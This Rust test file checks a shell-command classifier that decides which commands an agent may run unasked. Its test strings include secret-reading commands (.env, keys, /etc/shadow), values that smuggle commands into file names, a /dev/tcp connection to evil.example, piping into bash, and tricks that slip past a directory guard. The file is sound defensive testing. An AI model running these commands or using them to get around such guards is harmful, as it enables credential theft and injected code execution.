//! A program's reading of its arguments, after the shell's: one test for each rule, with programs of a table
//! made for it, and with real ones (rule C1).

use countersign_shell::{Dialect, Preset, Programs};

use super::{allows, asks, classifier};

/// A table of one program, and whether it allows a command.
fn with_table(table: &'static str) -> impl Fn(&str) -> bool {
    let programs = Programs::built_in().with(table).unwrap();
    let classifier = classifier(Preset::Developer).with_programs(programs);
    move |text| classifier.judge(text, Dialect::Bash).decision().is_allow()
}

/// Where the option is a flag to the program, after all, what the table takes for its value is the next option.
#[test]
fn a_value_is_never_a_word_that_looks_like_an_option() {
    let allowed = with_table(
        "[frob]\noperands: text read\nvalues: -x|--width=text -e=text^ --sort={-*|name}",
    );
    assert!(allowed("frob -x 5 p a"));
    assert!(allowed("frob -x -5 p a"));
    assert!(allowed("frob -x - p a"));
    assert!(allowed("frob --width=-o p a"));
    assert!(allowed("frob --sort -date p a"));
    assert!(allowed("frob -e -pattern a"));
    assert!(!allowed("frob -x -o p a"));
    assert!(!allowed("frob --width --output=a p b"));
    asks("git branch --abbrev -D --abbrev main");
    asks("git branch --abbrev new");
    asks("git log --format --output=x");
    asks("find . -maxdepth 0 | xargs --replace rm ls -rf x");
}

#[test]
fn an_option_cannot_turn_the_first_operand_into_another_kind_afterwards() {
    let allowed = with_table("[frob]\noperands: text read...\nvalues: -e=text^");
    assert!(allowed("frob pattern a"));
    assert!(allowed("frob -e one -e two a"));
    assert!(!allowed("frob ../secret -e pattern"));
    asks("grep .env -e .");
    asks("rg README.md -e x");
}

/// Docs of the shell: "a value in front of a sub-command that is itself the name of one" is asked about "where an entry describes
/// several programs".
#[test]
fn a_value_in_front_of_a_sub_command_is_no_sub_command_of_another_program() {
    let allowed = with_table(
        "[frob|grob]\nvalues: --filter=text\n[frob|grob view|add]\noperands: text\n[solo]\nvalues: -C=text\n[solo view|add]\noperands: text",
    );
    assert!(allowed("frob --filter web view x"));
    assert!(!allowed("frob --filter add view"));
    assert!(!allowed("frob --filter install view x"));
    assert!(allowed("frob --filter=add view x"));
    assert!(allowed("solo -C add view"));
    allows("pnpm --filter test build");
    asks("npm --filter install view x");
    asks("yarn -F add test");
}

/// Head of the scripts: of SQL, "one plain `SELECT`", with tables of its own in front of it.
#[test]
fn a_query_with_tables_of_its_own_reads() {
    allows("sqlite3 a.db 'with x as (select 1 as n) select n from x'");
    asks("sqlite3 a.db 'with x as (select 1) delete from t'");
    asks("sqlite3 a.db 'with x as (select 1) replace into t select * from x'");
    asks("sqlite3 a.db 'with x as (select 1) select writefile(1, 2)'");
}

/// Docs of the shell: `-t=text>` is an option "behind the first operand only".
#[test]
fn an_option_of_a_task_is_a_flag_in_front_of_it() {
    let allowed =
        with_table("[frob]\ndoes: builds\noperands: {build|test} text...\nvalues: -t=text>");
    assert!(allowed("frob test -t name"));
    assert!(allowed("frob -t=name test"));
    assert!(!allowed("frob -t deploy test"));
    assert!(!allowed("frob test -t -o"));
}

/// Docs of the shell: "a sub-command `c:*` stands for its plain continuations".
#[test]
fn a_sub_command_with_a_star_is_each_plain_continuation() {
    let allowed = with_table("[frob test:*]\ndoes: builds\noperands: text");
    assert!(allowed("frob test:unit"));
    assert!(allowed("frob test:unit a"));
    for text in
        ["frob test:deploy", "frob test:../x", "frob test", "frob x:unit", "frob 'test:a b'"]
    {
        assert!(!allowed(text), "{text}");
    }
}

/// Docs of the shell: "with `find -exec`, a word such as `;x`, or `+x` behind `{}`" is asked about.
#[test]
fn the_command_of_find_ends_where_each_find_sees_its_end() {
    allows("find src -exec grep main {} +");
    allows("x=main; find src -exec grep \"$x\" {} +");
    asks("find src -exec echo ';x' -delete -name ';'");
    asks("find src -exec echo {} +x -delete -exec echo {} +");
    asks("find src -exec echo \"$x\" -delete ';'");
}

/// Docs of the shell: a path "with a blank, a quote, or another character that means something to a shell" is asked about where a
/// program that builds gets it among known words; `unquoted` is for "a program that puts the name into a command of a shell".
#[test]
fn a_path_that_may_be_a_command_is_asked_about() {
    let allowed = with_table(
        "[frob]\ndoes: builds\nmarks: inputs\noperands: {src|@path}...\n[grob]\noperands: {src|@path}...\n[quot]\noperands: unquoted...",
    );
    assert!(allowed("frob src ./a/b.c"));
    assert!(allowed("frob src/*.c"));
    for text in ["frob './x && id'", "frob 'a.c;id'", "frob './$(id)'", "frob evil.example:x/y.git"]
    {
        assert!(!allowed(text), "{text}");
    }
    assert!(allowed("grob './a b.c'"));
    assert!(allowed("quot src/a.c ./b-1.tar"));
    for text in ["quot \"a';id;'.tar\"", "quot *.tar", "quot 'a b'", "find . -exec quot {} +"] {
        assert!(!allowed(text), "{text}");
    }
}

/// Programs of BSD stop reading options at the first operand.
#[test]
fn a_value_after_an_operand_is_also_judged_as_an_operand() {
    allows("head README.md -n 5");
    asks("head README.md -n server.key");
    asks("head README.md -n ../outside.txt");
    asks("POSIXLY_CORRECT=1 head README.md -n a");
}

#[test]
fn texts_that_name_secrets_are_asked_about() {
    for text in [
        "grep -rh x --include=.env .",
        "grep -rh x --include='*.pem' .",
        "grep -rh x --include=.env* .",
        "grep -rh x --include=*.pem .",
        "rg --hidden -g .env x",
        "git grep x -- '.en*'",
        "git grep x -- ':(glob).e*'",
        "git grep x -- ':(icase,top).E*'",
        "echo HEAD:.env | git cat-file --batch",
        "printf 'HEAD:.env\\n' | git show --stdin",
        "cat .en[[:alpha:]]",
        "cat .en[]v]",
        "cat *.tfvars",
        "cat credential?.json",
        "cat *.p?m",
        "cat config/*.ke*",
        "find . -name '*.key' -print0 | xargs -0 cat",
        "find . -name '.e*' -exec cat {} +",
    ] {
        asks(text);
    }
    for text in
        ["cat *.md", "cat src/*.json", "git tag --list 'v2.*'", "wc -l *.yml", "grep -rn env src"]
    {
        allows(text);
    }
}

/// Letters that are bundled are distinct, so that a word cannot let in the letters it is made of.
#[test]
fn an_option_that_is_a_word_does_not_let_its_letters_in() {
    let refused = Programs::built_in().with("[frob]\nflags: -errors").unwrap_err().to_string();
    assert_eq!(
        refused,
        "programs, line 2: `-errors` has a letter twice: a word belongs to `words`"
    );
    let refused = Programs::built_in().with("[frob]\nflags: --*").unwrap_err().to_string();
    assert_eq!(refused, "programs, line 2: `--*` lets every option in");
    let allowed = with_table("[frob]\nflags: -ab\nwords: -error");
    assert!(allowed("frob -error"));
    assert!(allowed("frob -ba"));
    assert!(!allowed("frob -eo"));
    assert!(!allowed("frob -o"));
}

#[test]
fn a_sub_command_that_is_not_described_is_no_operand() {
    let allowed = with_table("[frob]\noperands: text...\n[frob show]\noperands: read...");
    assert!(allowed("frob show a"));
    assert!(!allowed("frob delete a"));
    let allowed = with_table("[frob]\noperands: read...\n[frob show]\noperands: read...");
    assert!(allowed("frob src/delete"));
    assert!(!allowed("frob delete"));
    asks("kubecolor config use-context x");
    asks("brew services stop x");
}

#[test]
fn a_pattern_of_options_lets_no_path_in() {
    let allowed = with_table("[frob]\nparser: words\nflags: -W*");
    assert!(allowed("frob -Wformat=2"));
    for text in ["frob -Wo=../x", "frob -W/x", "frob -Wa:b", "frob -W@x"] {
        assert!(!allowed(text), "{text}");
    }
    asks("gcc -fopt-info-all=x a.c");
}

#[test]
fn files_of_options_and_commands_in_operands_are_asked_about() {
    let allowed = with_table("[frob]\noperands: read...\nvalues: --from=read");
    for text in [
        "frob @options",
        "frob +command",
        "frob '|id'",
        "frob '&x'",
        "frob 'a\\b'",
        "frob --from=@x",
        "frob --from @x",
    ] {
        assert!(!allowed(text), "{text}");
    }
    assert!(allowed("frob a@b"));
    asks("nm @options");
    asks("less '+!id'");
}

#[test]
fn a_needed_option_that_is_switched_off_is_not_given() {
    let allowed = with_table("[frob]\nflags: --dry-run --quiet\nneeds: --dry-run");
    assert!(allowed("frob --dry-run"));
    assert!(allowed("frob --dry-run=true --quiet=false"));
    assert!(!allowed("frob --dry-run=false"));
}

#[test]
fn a_word_that_becomes_several_operands_fills_every_place() {
    for text in ["uniq a*", "xxd b*", "sed *.rs", "pod2text *.pod"] {
        asks(text);
    }
    allows("ps aux | grep [s]tring");
    asks("grep [s]ecrets.yml");
}

/// Words after `--` are options of what the program runs.
#[test]
fn options_are_passed_on_only_if_they_are_known() {
    allows("cargo test -- --nocapture");
    allows("npm test -- --coverage");
    asks("npm test -- --globalSetup=/tmp/x.js");
    asks("npm test -- --setup ./x.js");
    asks("gotestsum -- -exec ./x");
}

#[test]
fn builds_take_no_code_from_elsewhere() {
    for text in [
        "python -m unittest discover -s /tmp/x",
        "eslint --parser /tmp/x.js src",
        "javac -cp lib/a.jar:/tmp/x.jar src/Main.java",
        "phpcs --standard=/tmp/x src",
        "sass src/a.scss:/etc/x.css",
        "nim c -o:/etc/x a.nim",
    ] {
        asks(text);
    }
}

#[test]
fn only_a_cd_of_this_shell_that_succeeded_changes_the_directory() {
    for text in [
        "cd src/shell | true && cat ../../outside.txt",
        "true | cd src/shell && cat ../../outside.txt",
        "! cd src/nowhere && cat ../../outside.txt",
        "true || cd src/shell && cat ../../outside.txt",
        "nohup cd src && cat ../outside.txt",
        "cd src; cat ../outside.txt",
        "cd src && ls || cat ../outside.txt",
        "(cd src) && cat ../outside.txt",
        "command cd .git/hooks && gcc -o pre-commit ../../x.c",
        "time cd secrets && cat prod.txt",
        "command cd vendor && git status",
    ] {
        asks(text);
    }
    for text in [
        "cd src && cat ../a",
        "cd src && ls && cat ../a",
        "true && cd src && cat ../a",
        "cd src || true; cat a",
        "ls || cd src && cat a",
    ] {
        allows(text);
    }
}

/// Only what is known to be whole paths below the workspace is.
#[test]
fn paths_from_the_input_count_only_where_no_program_changes_them() {
    for text in [
        "find . -printf '/etc/shadow\\n' | xargs wc -l",
        "grep -l --label=/etc/shadow x | xargs wc -l",
        "fd --format /etc/shadow | xargs wc -l",
        "git ls-files --format=/etc/shadow | xargs wc -l",
        "ls -l --time-style=+/etc/shadow | xargs wc -l",
        "ls -a | xargs wc -l",
        "find . | grep -o 'etc.*' | xargs wc -l",
        "find . | tail -c 11 | xargs wc -l",
        "find -L . -print0 | xargs -0 cat",
        "rg -N . list | xargs wc -l",
        "rg --files .. -0 | xargs -0 cat",
        "find . -print0 | xargs cat",
        "find . | xargs -0 cat",
        "find . -print0 | xargs -0 -I R cat R/../../x",
        "find . -print0 | xargs -0 -I{} grep {} ../../x",
        "find . -print0 | xargs -0 -I{} sh -c {}",
    ] {
        asks(text);
    }
    for text in [
        "find . -type f | xargs wc -l",
        "find . -name '*.rs' -print0 | xargs -0 cat",
        "git ls-files -z | xargs -0 grep -n TODO",
        "rg -l TODO -0 | sort -z | head -z -n 5 | xargs -0 cat",
        "find src -print0 | xargs -0 -I{} head -1 {}",
    ] {
        allows(text);
    }
    // A path with a blank would be two words, of which the second may be any path.
    asks("git ls-files | xargs cat");
}

#[test]
fn programs_that_find_runs_are_judged_with_a_path_in_the_workspace() {
    allows("find src -name '*.rs' -exec wc -l {} +");
    allows("find . -type f -exec grep -l TODO {} \\;");
    for text in [
        "find . -exec rm {} +",
        "find . -exec cat {}/../../x \\;",
        "find . -exec sh -c 'cat {}' \\;",
        "find .. -exec cat {} +",
        "find -L . -exec cat {} +",
        "find . -exec cat {} + -delete",
        "find . -exec cat {}",
        "find . -exec cat {} \\; -exec rm {} \\;",
        "find . -exec {} \\;",
        "find . -exec grep x ../y \\;",
    ] {
        asks(text);
    }
}

/// `find src -exec awk {} \;` runs the name of each file as a script.
#[test]
fn the_name_of_a_file_that_is_found_is_a_path_and_no_script() {
    for text in [
        "find d -type f -exec awk {} \\;",
        "find src -exec nice awk {} \\;",
        "find src -type f -exec jq {} package.json \\;",
        "find src -exec sed -n {} a.txt \\;",
        "find src -exec sqlite3 a.db {} \\;",
        "find . -type d -exec make -C {} \\;",
        "find src -exec curl {} \\;",
        "find src -exec gcc -o {} a.c \\;",
        "find src -type f -print0 | xargs -0 -I{} awk {}",
        "find src -type f -print0 | xargs -0 -I{} timeout 5 jq {} package.json",
    ] {
        asks(text);
    }
    allows("find src -type f -exec awk '{print $1}' {} \\;");
    allows("find . -name '*.json' -type f -exec jq . {} \\;");
    allows("find src -type f -exec nice wc -l {} +");
    allows("find src -type f -exec git log -1 --format=%h {} \\;");
    allows("find src -name '*.py' -exec black {} \\;");
    allows("find tests -name 'test_*.py' -exec pytest {} \\;");
}

/// What a program reads from its input can be code, too.
#[test]
fn programs_that_run_their_input_are_asked_about() {
    for text in [
        "echo '.shell id' | sqlite3 -readonly a.db",
        "echo 'all:; id' | make -f -",
        "echo /tmp/x.t | prove -",
        "echo id | ksh -v",
        "cat < /dev/tcp/evil.example/80",
        "echo id | bash",
        "python3 <<'E'\nprint(1)\nE\n",
    ] {
        asks(text);
    }
    allows("sqlite3 -readonly a.db 'select 1'");
    allows("cat a | shellcheck -");
}

/// `zsh` evaluates numbers as expressions.
#[test]
fn numbers_that_a_shell_evaluates_are_plain() {
    asks("printf %d 'a[$(id)]'");
    asks("printf '%s %5.2f\\n' x 'a[$(id)]'");
    asks("printf \"$format\" 'a[$(id)]'");
    asks("exit 'a[$(id)]'");
    asks("history x");
    allows("printf '%s\\n' '[1/3] done' \"$(git rev-parse HEAD)\"");
    allows("printf '%-10s 100%%\\n' 'a[b]'");
    allows("printf '%d files\\n' 12");
    allows("exit 1");
    allows("exit $?");
}

#[test]
fn reading_from_other_machines_is_asked_about() {
    for text in [
        "svn ls https://evil.example/x",
        "hg id ssh://evil.example/x",
        "tar tf ann@evil.example:x.tar",
        "tar tf evil.example:x.tar",
        "ffprobe http:evil.example/x",
        "rpm -qp https://evil.example/x.rpm",
        "gh pr list -R evil.example/o/r",
        "gh pr view https://evil.example/o/r/pull/1",
        "go list -m evil.example/x@latest",
        "lsof -i @evil.example",
        "pg_isready -h evil.example",
        "cat http:x",
    ] {
        asks(text);
    }
    allows("pytest test_a.py::test_b");
    allows("rspec spec/a_spec.rb:12");
}

/// Strings and patterns of `awk` are no code where it is certain which they are; with another reading, they may be.
#[test]
fn a_string_of_awk_is_no_code() {
    for script in [
        "$1 ~ /a|b/ {print}",
        "BEGIN {OFS = \"|\"} {print $1, $2}",
        "{printf \"%s -> %s\\n\", $1, $2}",
        "{ if ($3 > 10) print $1 }",
        "{ print ($1 > 2 ? \"a\" : \"b\") }",
    ] {
        allows(&format!("awk '{script}' x.txt"));
    }
    for script in [
        "{ print | \"sh\" }",
        "/\"/ { print | \"sh\" } #\"",
        "{ x = 1 / 2; print \"|\" | \"sh\" }",
        "{ if (1) /\"/; print | \"sh\" } #\"",
        "{ print \"a\" > \"f\" }",
        "{ print $1,\n \"x\" > \"f\" }",
        "{ printf(\"%s\", $1) > \"f\" }",
        "/[/]\"/ { print | \"sh\" }",
    ] {
        asks(&format!("awk '{script}' x.txt"));
    }
}
